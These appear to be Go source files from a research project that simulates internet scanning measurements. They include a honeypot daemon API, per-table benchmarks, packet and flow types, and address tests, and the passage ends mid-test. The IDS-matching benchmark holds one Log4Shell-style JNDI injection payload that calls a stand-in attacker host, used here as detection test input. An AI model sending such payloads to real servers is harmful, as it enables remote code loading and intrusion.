// SweepRequest selects a sweep grid: tables × top-K widths × epoch
// prefixes.
type SweepRequest = stream.SweepRequest

// SweepResult is a finished sweep grid with its render throughput.
type SweepResult = stream.SweepResult

// NewStream generates the epoch-partitioned study material and
// returns an engine with nothing ingested yet. Every epoch-prefix
// snapshot it assembles is byte-identical to a batch Run truncated to
// the same window.
func NewStream(cfg StreamConfig) (*StreamEngine, error) {
	return stream.New(cfg)
}

// NewStreamServer wraps a streaming engine in the HTTP snapshot/sweep
// API.
func NewStreamServer(eng *StreamEngine) *StreamServer {
	return stream.NewServer(eng)
}

// OpenStream builds a streaming engine backed by a durable store in
// directory dir. A store holding a complete study generated under the
// same configuration is recovered — generation is skipped and the
// engine rehydrates to the last acknowledged epoch prefix; an empty or
// torn store is (re)generated deterministically and rewritten. Every
// snapshot a recovered engine serves is byte-identical to one from an
// engine that never restarted.
func OpenStream(cfg StreamConfig, dir string) (*StreamEngine, error) {
	st, err := store.Open(store.DirFS(), dir)
	if err != nil {
		return nil, err
	}
	return stream.Open(cfg, st)
}

// HoneypotConfig configures a real honeypot daemon (see Honeypot
// modes: first-payload capture, interactive Telnet, SSH banner).
type HoneypotConfig = honeypot.Config

// Honeypot daemon modes.
const (
	ModeFirstPayload = honeypot.ModeFirstPayload
	ModeTelnet       = honeypot.ModeTelnet
	ModeSSH          = honeypot.ModeSSH
)

// NewHoneypot returns a real TCP honeypot daemon; call Serve with a
// net.Listener to start collecting.
func NewHoneypot(cfg HoneypotConfig) *honeypot.Daemon {
	return honeypot.NewDaemon(cfg)
}
