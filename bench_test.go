package cloudwatch

// One benchmark per table and figure of the paper's evaluation. Each
// bench builds (and caches) the study for its dataset year, then
// measures the experiment computation; the rendered tables land in
// bench output via b.Log at -v. Key shape metrics are reported through
// b.ReportMetric so regressions in the reproduced findings are visible
// in benchmark diffs.

import (
	"sync"
	"testing"
	"time"

	"cloudwatch/internal/core"
	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/ids"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/obs"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/stats"
	"cloudwatch/internal/stream"
)

var (
	benchMu      sync.Mutex
	benchStudies = map[string]*core.Study{}
)

// benchStudy caches one study per (year, figure-scale) variant. The
// cached study carries its derived-record index and view cache, so the
// per-table benchmarks below measure the warm (memoized) read path by
// design — the path repeat analyses take in production — and their
// ns/op depends on which benchmarks ran first. Use
// BenchmarkViewPipelineCold/Warm to isolate cold-build vs cache-hit
// cost.
func benchStudy(b *testing.B, year int, figure bool) *core.Study {
	b.Helper()
	key := "std"
	if figure {
		key = "fig"
	}
	key += string(rune('0' + year - 2019))
	benchMu.Lock()
	defer benchMu.Unlock()
	if s, ok := benchStudies[key]; ok {
		return s
	}
	cfg := QuickStudy(42, year)
	if figure {
		cfg.Deploy.TelescopeSlash24s = 512
	}
	s, err := Run(cfg)
	if err != nil {
		b.Fatal(err)
	}
	benchStudies[key] = s
	return s
}

// BenchmarkStudyGeneration measures end-to-end study construction
// across varying seeds (no stream-state cache reuse between
// iterations), reporting generation throughput like the fixed-seed
// worker benchmarks below.
func BenchmarkStudyGeneration(b *testing.B) {
	records := 0
	for i := 0; i < b.N; i++ {
		s, err := Run(QuickStudy(int64(i), 2021))
		if err != nil {
			b.Fatal(err)
		}
		records = s.NumRecords()
	}
	if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
		b.ReportMetric(float64(records)/perOp, "records/sec")
	}
}

// BenchmarkStreamGeneration measures epoch-partitioned generation —
// the streaming counterpart of BenchmarkStudyGeneration, same varying
// seeds, same scenario, but every probe routed into the per-epoch sink
// of its timestamp. The streaming_over_batch_generation ratio in the
// bench report divides this benchmark's records/sec by
// BenchmarkStudyGeneration's.
func BenchmarkStreamGeneration(b *testing.B) {
	records := 0
	for i := 0; i < b.N; i++ {
		cfg := QuickStudy(int64(i), 2021)
		cfg.WindowSec = 0
		es, err := core.GenerateEpochs(cfg, sweepBenchEpochs)
		if err != nil {
			b.Fatal(err)
		}
		records = es.NumRecords()
	}
	if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
		b.ReportMetric(float64(records)/perOp, "records/sec")
	}
}

// BenchmarkScenarioGeneration measures end-to-end study construction
// under every registered scenario pack, one sub-benchmark per id, so
// per-scenario generation throughput is tracked in benchmark diffs
// (the baseline sub-benchmark is BenchmarkStudyGeneration's grid under
// another name; the packs price their different population shapes).
func BenchmarkScenarioGeneration(b *testing.B) {
	for _, id := range Scenarios() {
		b.Run(id, func(b *testing.B) {
			records := 0
			for i := 0; i < b.N; i++ {
				cfg := QuickStudy(int64(i), 2021)
				cfg.Actors.Scenario = id
				s, err := Run(cfg)
				if err != nil {
					b.Fatal(err)
				}
				records = s.NumRecords()
			}
			if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
				b.ReportMetric(float64(records)/perOp, "records/sec")
			}
		})
	}
}

// benchmarkStudyWorkers measures the full collection pipeline at a
// fixed worker count, reporting throughput as records/sec so the
// parallel-vs-serial speedup is visible in benchmark diffs.
func benchmarkStudyWorkers(b *testing.B, workers int) {
	cfg := QuickStudy(42, 2021)
	cfg.Workers = workers
	records := 0
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s, err := Run(cfg)
		if err != nil {
			b.Fatal(err)
		}
		records = s.NumRecords()
	}
	perOp := b.Elapsed().Seconds() / float64(b.N)
	if perOp > 0 {
		b.ReportMetric(float64(records)/perOp, "records/sec")
	}
}

// BenchmarkStudySerial is the single-worker baseline of the sharded
// pipeline.
func BenchmarkStudySerial(b *testing.B) { benchmarkStudyWorkers(b, 1) }

// BenchmarkStudyParallel runs the pipeline at the default worker count
// (GOMAXPROCS); compare its records/sec against BenchmarkStudySerial.
func BenchmarkStudyParallel(b *testing.B) { benchmarkStudyWorkers(b, 0) }

func BenchmarkTable1VantagePoints(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	var r core.Table1Result
	for i := 0; i < b.N; i++ {
		r = s.Table1()
	}
	for _, row := range r.Rows {
		if row.Collection == "telescope" {
			b.ReportMetric(float64(row.UniqueIPs), "telescope-ips")
		}
	}
}

func BenchmarkTable2Neighborhoods(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	var r core.Table2Result
	for i := 0; i < b.N; i++ {
		r = s.Table2()
	}
	for _, c := range r.Cells {
		if c.Slice == core.SliceSSH22 && c.Characteristic == core.CharTopAS {
			b.ReportMetric(c.FractionDifferent*100, "ssh-as-diff-pct")
		}
	}
}

func BenchmarkTable3SearchEngines(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	var r core.Table3Result
	for i := 0; i < b.N; i++ {
		r = s.Table3()
	}
	for _, row := range r.Rows {
		if row.Service == "HTTP/80" && row.Traffic == "All" && row.Group == "shodan" {
			b.ReportMetric(row.Fold, "http80-shodan-fold")
		}
	}
}

func BenchmarkTable4GeoMostDifferent(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table4()
	}
}

func BenchmarkTable5GeoSimilarity(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table5()
	}
}

func BenchmarkTable6DeploymentMatrix(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table6()
	}
}

func BenchmarkTable7NetworkTypes(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table7()
	}
}

func BenchmarkTable8TelescopeOverlap(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	var r core.Table8Result
	for i := 0; i < b.N; i++ {
		r = s.Table8()
	}
	for _, row := range r.Rows {
		switch row.Port {
		case 22:
			b.ReportMetric(row.TelCloudFrac*100, "p22-overlap-pct")
		case 23:
			b.ReportMetric(row.TelCloudFrac*100, "p23-overlap-pct")
		}
	}
}

func BenchmarkTable9MaliciousOverlap(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table9()
	}
}

func BenchmarkTable10TelescopeASes(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table10()
	}
}

func BenchmarkTable11UnexpectedProtocols(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	var r core.Table11Result
	for i := 0; i < b.N; i++ {
		r = s.Table11()
	}
	for _, row := range r.Rows {
		if row.Port == 80 && !row.Expected {
			b.ReportMetric(row.Share*100, "unexpected-pct")
		}
	}
}

func benchFigurePanel(b *testing.B, port uint16, metric string, get func(core.Figure1Panel) float64) {
	s := benchStudy(b, 2021, true)
	b.ResetTimer()
	var r core.Figure1Result
	for i := 0; i < b.N; i++ {
		r = s.Figure1()
	}
	for _, p := range r.Panels {
		if p.Port == port {
			b.ReportMetric(get(p), metric)
		}
	}
}

func BenchmarkFigure1aPort22(b *testing.B) {
	benchFigurePanel(b, 22, "slash16-boost", func(p core.Figure1Panel) float64 { return p.Slash16StartBoost })
}

func BenchmarkFigure1bPort445(b *testing.B) {
	benchFigurePanel(b, 445, "octet255-ratio", func(p core.Figure1Panel) float64 { return p.Octet255Ratio })
}

func BenchmarkFigure1cPort80(b *testing.B) {
	benchFigurePanel(b, 80, "octet255-ratio", func(p core.Figure1Panel) float64 { return p.Octet255Ratio })
}

func BenchmarkFigure1dPort17128(b *testing.B) {
	benchFigurePanel(b, 17128, "latched-addrs", func(p core.Figure1Panel) float64 { return float64(len(p.TopAddresses)) })
}

// Appendix C (temporal validation): the same experiments on the 2020
// and 2022 datasets.

func BenchmarkTable12Neighborhoods2020(b *testing.B) {
	s := benchStudy(b, 2020, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table2()
	}
}

func BenchmarkTable13GeoSimilarity2020(b *testing.B) {
	s := benchStudy(b, 2020, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table5()
	}
}

func BenchmarkTable14NetworkTypes2022(b *testing.B) {
	s := benchStudy(b, 2022, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table7()
	}
}

func BenchmarkTable15Telescope2022(b *testing.B) {
	s := benchStudy(b, 2022, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table10()
	}
}

func BenchmarkTable16Geo2020(b *testing.B) {
	s := benchStudy(b, 2020, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table4()
	}
}

func BenchmarkTable17Protocols2022(b *testing.B) {
	s := benchStudy(b, 2022, false)
	b.ResetTimer()
	var r core.Table11Result
	for i := 0; i < b.N; i++ {
		r = s.Table11()
	}
	for _, row := range r.Rows {
		if row.Port == 80 && !row.Expected {
			b.ReportMetric(row.Share*100, "unexpected-pct-2022")
		}
	}
}

// BenchmarkViewPipelineCold measures the full analysis read path with
// nothing memoized: every iteration runs a fresh study's Table2 (the
// heaviest per-vantage view consumer), paying the derived-index build
// plus all view construction.
func BenchmarkViewPipelineCold(b *testing.B) {
	cfg := QuickStudy(42, 2021)
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		s, err := Run(cfg)
		if err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
		_ = s.Table2()
	}
}

// BenchmarkViewPipelineWarm is the memoized counterpart: the same
// Table2 on one study, so iterations 2+ read the derived index and the
// view cache. Compare against BenchmarkViewPipelineCold for the cache
// win.
func BenchmarkViewPipelineWarm(b *testing.B) {
	s := benchStudy(b, 2021, false)
	_ = s.Table2() // prime the index and view cache
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table2()
	}
}

// Streaming-engine benchmarks: ingest throughput and the K/prefix
// sweep engine against cold re-runs.

// sweepBenchEpochs matches the acceptance grid: Table 2 and Table 5
// across K = 1..10 on every prefix of an 8-epoch week.
const sweepBenchEpochs = 8

var sweepBenchTables = []string{"table2", "table5"}

var (
	sweepEngOnce sync.Once
	sweepEng     *StreamEngine
	sweepEngErr  error
)

// sweepEngine builds (once) the fully-ingested streaming engine the
// warm-sweep benchmark reads.
func sweepEngine(b *testing.B) *StreamEngine {
	b.Helper()
	sweepEngOnce.Do(func() {
		eng, err := NewStream(StreamConfig{Study: QuickStudy(42, 2021), Epochs: sweepBenchEpochs})
		if err == nil {
			err = eng.IngestAll()
		}
		sweepEng, sweepEngErr = eng, err
	})
	if sweepEngErr != nil {
		b.Fatal(sweepEngErr)
	}
	return sweepEng
}

// BenchmarkStreamIngest measures end-to-end streaming ingestion:
// epoch-partitioned generation plus the materialization of every
// prefix snapshot, reported as records/sec of the final study (compare
// against BenchmarkStudyParallel for the streaming overhead).
func BenchmarkStreamIngest(b *testing.B) {
	records := 0
	for i := 0; i < b.N; i++ {
		eng, err := NewStream(StreamConfig{Study: QuickStudy(int64(i), 2021), Epochs: sweepBenchEpochs})
		if err != nil {
			b.Fatal(err)
		}
		if err := eng.IngestAll(); err != nil {
			b.Fatal(err)
		}
		snap, err := eng.Snapshot(sweepBenchEpochs)
		if err != nil {
			b.Fatal(err)
		}
		records = snap.NumRecords()
	}
	if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
		b.ReportMetric(float64(records)/perOp, "records/sec")
	}
}

// BenchmarkStreamIngestBare is BenchmarkStreamIngest with stage
// tracing disabled — the only per-stage instrumentation cost spans pay
// (metrics are single atomic ops on per-epoch paths and are never
// gated). The instrumented-over-bare records/sec ratio in the bench
// report prices the observability layer; the acceptance bar is ≥ 0.98
// (≤ 2% overhead).
func BenchmarkStreamIngestBare(b *testing.B) {
	obs.SetEnabled(false)
	defer obs.SetEnabled(true)
	records := 0
	for i := 0; i < b.N; i++ {
		eng, err := NewStream(StreamConfig{Study: QuickStudy(int64(i), 2021), Epochs: sweepBenchEpochs})
		if err != nil {
			b.Fatal(err)
		}
		if err := eng.IngestAll(); err != nil {
			b.Fatal(err)
		}
		snap, err := eng.Snapshot(sweepBenchEpochs)
		if err != nil {
			b.Fatal(err)
		}
		records = snap.NumRecords()
	}
	if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
		b.ReportMetric(float64(records)/perOp, "records/sec")
	}
}

// BenchmarkStreamIngestLatency measures per-epoch ingest latency at
// the start and the end of the week. Snapshot assembly is incremental
// (each ingest adopts the previous prefix snapshot and folds in only
// the new epoch), so ingesting epoch 8 should cost about the same as
// ingesting epoch 2 — the p8-over-p2 ratio near 1.0 is the flatness
// acceptance metric; the O(prefix) from-scratch assembler sat near 3.
func BenchmarkStreamIngestLatency(b *testing.B) {
	var p2, p8 time.Duration
	for i := 0; i < b.N; i++ {
		eng, err := NewStream(StreamConfig{Study: QuickStudy(int64(i), 2021), Epochs: sweepBenchEpochs})
		if err != nil {
			b.Fatal(err)
		}
		for p := 1; p <= sweepBenchEpochs; p++ {
			start := time.Now()
			if _, ok, err := eng.IngestNext(); err != nil || !ok {
				b.Fatalf("ingest #%d: ok=%v err=%v", p, ok, err)
			}
			d := time.Since(start)
			switch p {
			case 2:
				p2 += d
			case sweepBenchEpochs:
				p8 += d
			}
		}
	}
	n := float64(b.N)
	b.ReportMetric(p2.Seconds()*1e3/n, "p2-ms")
	b.ReportMetric(p8.Seconds()*1e3/n, "p8-ms")
	if p2 > 0 {
		b.ReportMetric(p8.Seconds()/p2.Seconds(), "p8-over-p2")
	}
}

// BenchmarkSweepWarm measures the sweep engine on a fully-ingested
// week: Table 2 and Table 5 at K = 1..10 across all 8 epoch prefixes
// (160 renders per iteration), with the interned BatchSet summaries
// and finished families reused across sweep points. Compare
// renders/sec against BenchmarkSweepCold for the acceptance ratio.
func BenchmarkSweepWarm(b *testing.B) {
	eng := sweepEngine(b)
	req := stream.SweepRequest{Tables: sweepBenchTables, KMin: 1, KMax: 10}
	b.ResetTimer()
	renders := 0
	for i := 0; i < b.N; i++ {
		res, err := eng.Sweep(req)
		if err != nil {
			b.Fatal(err)
		}
		renders = res.Renders
	}
	if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
		b.ReportMetric(float64(renders)/perOp, "renders/sec")
	}
}

// BenchmarkSweepCold prices the same grid without the streaming
// engine: each iteration renders one (prefix, K, table) point from a
// fresh truncated batch run — what sweeping cost before snapshots.
func BenchmarkSweepCold(b *testing.B) {
	eb := netsim.NewEpochs(sweepBenchEpochs)
	cfg := QuickStudy(42, 2021)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		point := i % (sweepBenchEpochs * 10 * len(sweepBenchTables))
		tbl := sweepBenchTables[point%len(sweepBenchTables)]
		k := (point / len(sweepBenchTables) % 10) + 1
		prefix := point/(10*len(sweepBenchTables)) + 1
		c := cfg
		if prefix < sweepBenchEpochs {
			c.WindowSec = eb.Bound(prefix)
		}
		s, err := Run(c)
		if err != nil {
			b.Fatal(err)
		}
		if _, ok := core.RenderExperimentAtK(s, tbl, k); !ok {
			b.Fatalf("unknown sweep table %q", tbl)
		}
	}
	if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
		b.ReportMetric(1/perOp, "renders/sec")
	}
}

// Cold-start benchmarks: wall time from process start (engine open) to
// the first rendered table, with and without a warm durable store. The
// recovered path decodes persisted epoch blocks instead of running the
// generators, so cold-start-ms should drop well below the regenerate
// path — the PR 7 acceptance metric.

func benchColdStart(b *testing.B, warm bool) {
	cfg := StreamConfig{Study: QuickStudy(42, 2021), Epochs: sweepBenchEpochs}
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		dir := b.TempDir()
		if warm {
			eng, err := OpenStream(cfg, dir)
			if err != nil {
				b.Fatal(err)
			}
			if err := eng.Close(); err != nil {
				b.Fatal(err)
			}
		}
		b.StartTimer()
		eng, err := OpenStream(cfg, dir)
		if err != nil {
			b.Fatal(err)
		}
		if warm != eng.Recovered() {
			b.Fatalf("recovered=%v, want %v", eng.Recovered(), warm)
		}
		if _, _, err := eng.IngestNext(); err != nil {
			b.Fatal(err)
		}
		snap, err := eng.Snapshot(1)
		if err != nil {
			b.Fatal(err)
		}
		if out, ok := core.RenderExperiment(snap, "table2"); !ok || out == "" {
			b.Fatal("first render produced no output")
		}
		b.StopTimer()
		if err := eng.Close(); err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
	}
	b.ReportMetric(b.Elapsed().Seconds()*1e3/float64(b.N), "cold-start-ms")
}

// BenchmarkColdStartRecovered opens a warm store: epoch blocks decode
// from disk, generation is skipped.
func BenchmarkColdStartRecovered(b *testing.B) { benchColdStart(b, true) }

// BenchmarkColdStartRegenerate opens an empty store: the study is
// generated from the seed and persisted before the first render.
func BenchmarkColdStartRegenerate(b *testing.B) { benchColdStart(b, false) }

// Micro-benchmarks of the hot paths.

func BenchmarkFingerprintIdentify(b *testing.B) {
	payloads := [][]byte{
		fingerprint.Probe(fingerprint.HTTP),
		fingerprint.Probe(fingerprint.TLS),
		fingerprint.Probe(fingerprint.SSH),
		fingerprint.Probe(fingerprint.SMB),
		[]byte("garbage that matches nothing at all"),
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		fingerprint.Identify(payloads[i%len(payloads)])
	}
}

func BenchmarkIDSMatch(b *testing.B) {
	e := ids.DefaultEngine()
	payload := []byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\nHost: server\r\n\r\n")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		e.Match("tcp", 80, payload)
	}
}

func BenchmarkChiSquareTopK(b *testing.B) {
	x := stats.Freq{"a": 120, "b": 80, "c": 40, "d": 10}
	y := stats.Freq{"a": 90, "b": 95, "e": 55, "f": 12}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := stats.CompareTopK(3, x, y); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkPopulationBuild(b *testing.B) {
	for i := 0; i < b.N; i++ {
		_ = scanners.Population(scanners.Config{Seed: int64(i), Year: 2021, Scale: 0.35})
	}
}
