package wire

import (
	"fmt"
	"time"
)

// Transport identifies the layer-4 protocol of a packet.
type Transport uint8

// Supported transports.
const (
	TCP Transport = 6  // IANA protocol number for TCP
	UDP Transport = 17 // IANA protocol number for UDP
)

// String returns the conventional protocol name.
func (t Transport) String() string {
	switch t {
	case TCP:
		return "tcp"
	case UDP:
		return "udp"
	default:
		return fmt.Sprintf("proto(%d)", uint8(t))
	}
}

// TCPFlags is the TCP flag bitfield.
type TCPFlags uint8

// TCP flag bits (low 8 of the flags field).
const (
	FlagFIN TCPFlags = 1 << iota
	FlagSYN
	FlagRST
	FlagPSH
	FlagACK
	FlagURG
	FlagECE
	FlagCWR
)

// Has reports whether all flags in mask are set.
func (f TCPFlags) Has(mask TCPFlags) bool { return f&mask == mask }

// String renders the set flags in tcpdump order (e.g. "SYN|ACK").
func (f TCPFlags) String() string {
	if f == 0 {
		return "none"
	}
	names := []struct {
		bit  TCPFlags
		name string
	}{
		{FlagFIN, "FIN"}, {FlagSYN, "SYN"}, {FlagRST, "RST"}, {FlagPSH, "PSH"},
		{FlagACK, "ACK"}, {FlagURG, "URG"}, {FlagECE, "ECE"}, {FlagCWR, "CWR"},
	}
	out := ""
	for _, n := range names {
		if f&n.bit != 0 {
			if out != "" {
				out += "|"
			}
			out += n.name
		}
	}
	return out
}

// Packet is one transport-layer datagram or segment as observed by a
// collector. Payload is the application bytes (empty for a bare SYN).
type Packet struct {
	Time    time.Time
	Src     Addr
	Dst     Addr
	SrcPort uint16
	DstPort uint16
	Proto   Transport
	Flags   TCPFlags // meaningful only for Proto == TCP
	Payload []byte
}

// IsSYN reports whether p is an initial TCP SYN (connection attempt),
// the only thing a telescope that "does not complete the TCP layer 4
// handshake" observes.
func (p Packet) IsSYN() bool {
	return p.Proto == TCP && p.Flags.Has(FlagSYN) && !p.Flags.Has(FlagACK)
}

// Endpoint is a hashable (address, port) pair, usable as a map key.
type Endpoint struct {
	Addr Addr
	Port uint16
}

// String renders "addr:port".
func (e Endpoint) String() string { return fmt.Sprintf("%s:%d", e.Addr, e.Port) }

// Flow is an ordered (src, dst) endpoint pair, usable as a map key.
type Flow struct {
	Src Endpoint
	Dst Endpoint
}

// FlowOf extracts the flow of a packet.
func FlowOf(p Packet) Flow {
	return Flow{
		Src: Endpoint{Addr: p.Src, Port: p.SrcPort},
		Dst: Endpoint{Addr: p.Dst, Port: p.DstPort},
	}
}

// Reverse returns the opposite-direction flow.
func (f Flow) Reverse() Flow { return Flow{Src: f.Dst, Dst: f.Src} }

// String renders "src -> dst".
func (f Flow) String() string { return fmt.Sprintf("%s -> %s", f.Src, f.Dst) }

// FastHash returns a symmetric non-cryptographic hash: f and
// f.Reverse() hash identically, so bidirectional traffic of one
// conversation lands in the same bucket (the gopacket Flow.FastHash
// contract).
func (f Flow) FastHash() uint64 {
	a := endpointHash(f.Src)
	b := endpointHash(f.Dst)
	if a > b {
		a, b = b, a
	}
	// fnv-style mix of the ordered pair.
	h := uint64(1469598103934665603)
	h = (h ^ a) * 1099511628211
	h = (h ^ b) * 1099511628211
	return h
}

func endpointHash(e Endpoint) uint64 {
	return uint64(e.Addr)<<16 | uint64(e.Port)
}
