package wire

import (
	"testing"
	"testing/quick"
)

func TestParseAddrRoundTripProperty(t *testing.T) {
	f := func(v uint32) bool {
		a := Addr(v)
		parsed, err := ParseAddr(a.String())
		return err == nil && parsed == a
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestParseAddrErrors(t *testing.T) {
	bad := []string{"", "1.2.3", "1.2.3.4.5", "256.1.1.1", "-1.2.3.4", "a.b.c.d", "01.2.3.4", "1..2.3"}
	for _, s := range bad {
		if _, err := ParseAddr(s); err == nil {
			t.Errorf("ParseAddr(%q) should fail", s)
		}
	}
	good := map[string]Addr{
		"0.0.0.0":         0,
		"255.255.255.255": 0xFFFFFFFF,
		"10.0.0.1":        AddrFrom4(10, 0, 0, 1),
		"203.0.113.77":    AddrFrom4(203, 0, 113, 77),
	}
	for s, want := range good {
		got, err := ParseAddr(s)
		if err != nil || got != want {
			t.Errorf("ParseAddr(%q) = %v, %v; want %v", s, got, err, want)
		}
	}
}

func TestMustParseAddrPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustParseAddr should panic on bad input")
		}
	}()
	MustParseAddr("not-an-ip")
}

func TestOctets(t *testing.T) {
	a := MustParseAddr("1.2.3.4")
	if o := a.Octets(); o != [4]byte{1, 2, 3, 4} {
		t.Errorf("Octets = %v", o)
	}
	for i, want := range []byte{1, 2, 3, 4} {
		if got := a.Octet(i); got != want {
			t.Errorf("Octet(%d) = %d, want %d", i, got, want)
		}
	}
}

func TestOctetPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("Octet(4) should panic")
		}
	}()
	Addr(0).Octet(4)
}

func TestAddressStructurePredicates(t *testing.T) {
	cases := []struct {
		s                      string
		broadcast, s16, has255 bool
	}{
		{"10.0.0.255", true, false, true},
		{"10.0.255.1", false, false, true},
		{"10.255.0.0", false, true, true},
		{"10.7.0.0", false, true, false},
		{"10.7.1.0", false, false, false},
		{"255.0.0.1", false, false, true},
	}
	for _, c := range cases {
		a := MustParseAddr(c.s)
		if got := a.IsBroadcastStyle(); got != c.broadcast {
			t.Errorf("%s IsBroadcastStyle = %v, want %v", c.s, got, c.broadcast)
		}
		if got := a.IsSlash16Start(); got != c.s16 {
			t.Errorf("%s IsSlash16Start = %v, want %v", c.s, got, c.s16)
		}
		if got := a.HasOctet(255); got != c.has255 {
			t.Errorf("%s HasOctet(255) = %v, want %v", c.s, got, c.has255)
		}
	}
}

func TestBlockParseAndContains(t *testing.T) {
	b := MustParseBlock("198.51.100.0/24")
	if b.Size() != 256 {
		t.Errorf("Size = %d, want 256", b.Size())
	}
	if !b.Contains(MustParseAddr("198.51.100.77")) {
		t.Error("should contain 198.51.100.77")
	}
	if b.Contains(MustParseAddr("198.51.101.0")) {
		t.Error("should not contain 198.51.101.0")
	}
	if got := b.Nth(77); got != MustParseAddr("198.51.100.77") {
		t.Errorf("Nth(77) = %v", got)
	}
	if i, ok := b.Index(MustParseAddr("198.51.100.200")); !ok || i != 200 {
		t.Errorf("Index = %d, %v", i, ok)
	}
	if _, ok := b.Index(MustParseAddr("9.9.9.9")); ok {
		t.Error("Index outside block should report !ok")
	}
	if b.String() != "198.51.100.0/24" {
		t.Errorf("String = %q", b.String())
	}
}

func TestBlockNormalizesBase(t *testing.T) {
	b := MustParseBlock("198.51.100.99/24")
	if b.Base != MustParseAddr("198.51.100.0") {
		t.Errorf("Base = %v, want 198.51.100.0", b.Base)
	}
}

func TestBlockErrors(t *testing.T) {
	for _, s := range []string{"1.2.3.4", "1.2.3.4/33", "1.2.3.4/-1", "bad/24", "1.2.3.4/x"} {
		if _, err := ParseBlock(s); err == nil {
			t.Errorf("ParseBlock(%q) should fail", s)
		}
	}
}

func TestBlockNthPanicsOutside(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("Nth outside block should panic")
		}
	}()
	MustParseBlock("10.0.0.0/30").Nth(4)
}

func TestSlashBlock(t *testing.T) {
	b := SlashBlock(MustParseAddr("172.16.99.42"), 16)
	if b.Base != MustParseAddr("172.16.0.0") || b.Bits != 16 {
		t.Errorf("SlashBlock = %v", b)
	}
	// /0 contains everything.
	z := SlashBlock(MustParseAddr("1.2.3.4"), 0)
	if !z.Contains(MustParseAddr("250.250.250.250")) {
		t.Error("/0 should contain all addresses")
	}
}

func TestBlockContainsNthRoundTripProperty(t *testing.T) {
	f := func(v uint32, bitsRaw uint8) bool {
		bits := 8 + int(bitsRaw%25) // /8../32
		b := SlashBlock(Addr(v), bits)
		for _, i := range []int{0, b.Size() - 1, b.Size() / 2} {
			a := b.Nth(i)
			if !b.Contains(a) {
				return false
			}
			j, ok := b.Index(a)
			if !ok || j != i {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Error(err)
	}
}
