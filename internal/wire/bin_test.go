package wire

import (
	"strings"
	"testing"
)

func TestBinRoundTrip(t *testing.T) {
	var b []byte
	b = AppendU8(b, 0xAB)
	b = AppendU16(b, 0xBEEF)
	b = AppendU32(b, 0xDEADBEEF)
	b = AppendU64(b, 1<<60+7)
	b = AppendI32(b, -12345)
	b = AppendF64(b, 3.75)
	b = AppendBytes(b, []byte("payload"))
	b = AppendString(b, "name")
	b = AppendI32s(b, []int32{1, -2, 3})
	b = AppendAddrs(b, []Addr{10, 20, 1 << 31})

	r := NewBinReader(b)
	if got := r.U8(); got != 0xAB {
		t.Fatalf("U8 = %x", got)
	}
	if got := r.U16(); got != 0xBEEF {
		t.Fatalf("U16 = %x", got)
	}
	if got := r.U32(); got != 0xDEADBEEF {
		t.Fatalf("U32 = %x", got)
	}
	if got := r.U64(); got != 1<<60+7 {
		t.Fatalf("U64 = %x", got)
	}
	if got := r.I32(); got != -12345 {
		t.Fatalf("I32 = %d", got)
	}
	if got := r.F64(); got != 3.75 {
		t.Fatalf("F64 = %v", got)
	}
	if got := r.Bytes(); string(got) != "payload" {
		t.Fatalf("Bytes = %q", got)
	}
	if got := r.String(); got != "name" {
		t.Fatalf("String = %q", got)
	}
	is := r.I32s()
	if len(is) != 3 || is[0] != 1 || is[1] != -2 || is[2] != 3 {
		t.Fatalf("I32s = %v", is)
	}
	as := r.Addrs()
	if len(as) != 3 || as[0] != 10 || as[1] != 20 || as[2] != 1<<31 {
		t.Fatalf("Addrs = %v", as)
	}
	if r.Err() != nil || r.Len() != 0 {
